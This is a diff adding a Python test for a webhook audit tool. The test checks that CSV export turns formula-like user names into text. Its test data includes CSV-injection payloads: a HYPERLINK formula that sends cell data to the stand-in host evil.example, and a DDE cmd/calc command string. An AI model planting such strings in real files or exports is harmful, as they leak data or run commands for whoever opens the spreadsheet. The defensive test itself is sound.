@@ -24,7 +24,10 @@ from webhook.cli import main
 from webhook.config import Settings
 from webhook.errors import AuditError
 
+from webhook.policies import PolicySet
+
 from .conftest import OpenStore
+from .helpers import decide, deployment
 from .tamper import database
 
 
@@ -81,6 +84,23 @@ def test_csv_export(trail_url: str, sample_decisions: list[Decision], tmp_path: 
     first = dict(zip(CSV_COLUMNS, rows[1]))
     assert first["verdict"] == "denied" and first["allowed"] == "false" and first["seq"] == "1"
     assert "require-probes" in first["policies"].split(";")
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_made_text(
+    tmp_path: Path, make_store: OpenStore, policies: PolicySet
+) -> None:
+    """A user name comes from the authenticator (an OIDC claim): ``=HYPERLINK(...)`` in a cell
+    would run in whatever spreadsheet opens the compliance export (CSV injection)."""
+    url = f"sqlite:{tmp_path / 'audit.db'}"
+    store = make_store(url)
+    users = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "alice"]
+    for user in users:
+        store.record(decide(policies, deployment("web", "shop"), user=user), 1.0)
+    store.close()
+    rows = list(csv.reader(io.StringIO(exported(url, "csv").decode())))
+    names = [row[CSV_COLUMNS.index("username")] for row in rows[1:]]
+    assert names == ["'" + user for user in users[:4]] + ["alice"]
+    assert [row[CSV_COLUMNS.index("latencyMs")] for row in rows[1:]] == ["1.0"] * 5  # numbers are kept
 
 
 def test_policyreport_export(trail_url: str) -> None:
